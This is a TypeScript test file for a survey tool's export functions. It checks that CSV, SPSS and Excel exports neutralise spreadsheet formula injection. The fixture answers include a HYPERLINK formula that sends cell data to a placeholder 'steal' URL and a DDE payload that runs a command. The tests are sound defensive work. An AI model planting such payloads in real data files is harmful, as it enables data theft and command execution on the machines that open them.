/**
 * Answers a spreadsheet would run. The CSV export (UTF-8 with a BOM, made for Excel) wrote `=HYPERLINK(…)`,
 * `+cmd|' /C calc'!A0` and `@SUM(1)` as they were, and Excel evaluates them on opening. The OWASP rule: a text
 * beginning with =, +, -, @, a tab or a carriage return gets a leading apostrophe in the CSV meant for spreadsheets;
 * numbers, negative ones included, are written as they are; the SPSS folder's CSV keeps raw values (PSPP and SPSS do
 * not evaluate formulas); the workbook stores such answers as text cells, never formulas.
 */
import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse as referenceParse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FormDefinition } from '../../../src/form';
import { neutralisedFormula } from '../../../src/report/csv';
import { kelisim } from '../../helpers/cli';
import { tempFolder } from '../../helpers/temp';
import { studyWithForms } from '../../helpers/study';

const form: FormDefinition = {
  formId: 'hostile',
  title: 'Hostile answers',
  version: '1',
  defaultLanguage: 'en',
  languages: [{ code: 'en', name: 'English' }],
  survey: [
    { type: 'select_one', name: 'region', listName: 'region', label: { en: 'Region' } },
    { type: 'integer', name: 'change', label: { en: 'Change since last year' } },
    { type: 'text', name: 'comment', label: { en: 'Comment' } },
  ],
  choiceLists: [{ name: 'region', choices: [{ name: 'abai', label: { en: 'Abai' } }] }],
};

/** The comments as typed by respondents (or by someone testing the institute), and the change as a number. */
const answers: [comment: string, change: string][] = [
  ['=HYPERLINK("http://example.com/steal?d="&A1,"click")', '-5'],
  ["+cmd|' /C calc'!A0", '3'],
  ['@SUM(1)', '-12'],
  ['-2+3', '0'],
  ['-12.5', '7'],
  ['Бәрі жақсы = рахмет', '-1'],
];

let temp: ReturnType<typeof tempFolder>;
let db: string;

beforeAll(async () => {
  ({ temp, db } = await studyWithForms([form], 'kelisim-formulas-'));
  const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
  fs.writeFileSync(
    temp.file('answers.csv'),
    ['region,change,comment', ...answers.map(([comment, change]) => `abai,${change},${quote(comment)}`)].join('\n'),
  );
  const run = await kelisim('responses', 'import', '--db', db, '--form', 'hostile', temp.file('answers.csv'));
  expect(run.code, run.stderr).toBe(0);
});
afterAll(() => temp.cleanup());

/** The CSV's columns by header name, read by csv-parse (not by Kelisim). */
function columnsOf(file: string): Map<string, string[]> {
  const [header, ...rows] = referenceParse(fs.readFileSync(file), { bom: true }) as string[][];
  return new Map(header.map((name, i) => [name, rows.map((row) => row[i])]));
}

describe('the CSV export for spreadsheets', () => {
  it('puts an apostrophe before every text a spreadsheet would evaluate, and leaves numbers alone', async () => {
    const out = temp.file('hostile.csv');
    const run = await kelisim('export', 'csv', '--db', db, '--form', 'hostile', '--out', out);
    expect(run.code, run.stderr).toBe(0);
    const columns = columnsOf(out);
    expect(columns.get('comment')).toEqual([
      '\'=HYPERLINK("http://example.com/steal?d="&A1,"click")',
      "'+cmd|' /C calc'!A0",
      "'@SUM(1)",
      "'-2+3",
      '-12.5',
      'Бәрі жақсы = рахмет',
    ]);
    expect(columns.get('change')).toEqual(['-5', '3', '-12', '0', '7', '-1']);
  });

  it('neutralises a leading tab or carriage return, as the rule says, and nothing in the middle of a text', () => {
    expect(neutralisedFormula('\t=1+1')).toBe("'\t=1+1");
    expect(neutralisedFormula('\r=1+1')).toBe("'\r=1+1");
    expect(neutralisedFormula('a=1+1')).toBe('a=1+1');
    expect(['-5', '+7', '-0.25', '-1e3', '-.5'].map(neutralisedFormula)).toEqual(['-5', '+7', '-0.25', '-1e3', '-.5']);
  });
});

describe('the SPSS export', () => {
  it('keeps the raw answers in its CSV: PSPP and SPSS read data, they do not evaluate it', async () => {
    const folder = temp.file('spss');
    fs.mkdirSync(folder);
    const run = await kelisim('export', 'spss', '--db', db, '--form', 'hostile', '--out', folder);
    expect(run.code, run.stderr).toBe(0);
    const columns = columnsOf(path.join(folder, 'hostile.csv'));
    expect(columns.get('comment')).toEqual(answers.map(([comment]) => comment));
  });
});

describe('the workbook', () => {
  it('stores such answers as text cells, never as formulas', async () => {
    const out = temp.file('hostile.xlsx');
    const run = await kelisim('report', '--db', db, '--form', 'hostile', '--by', 'region', '--out', out, '--lang', 'en');
    expect(run.code, run.stderr).toBe(0);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out);
    const data = workbook.getWorksheet('Data')!;
    const header = (data.getRow(1).values as ExcelJS.CellValue[]).map(String);
    const column = header.indexOf('comment');
    const cells = answers.map((_, i) => data.getRow(i + 2).getCell(column));
    expect(cells.map((cell) => cell.type)).toEqual(answers.map(() => ExcelJS.ValueType.String));
    expect(cells.map((cell) => cell.value)).toEqual(answers.map(([comment]) => comment));
  });
});
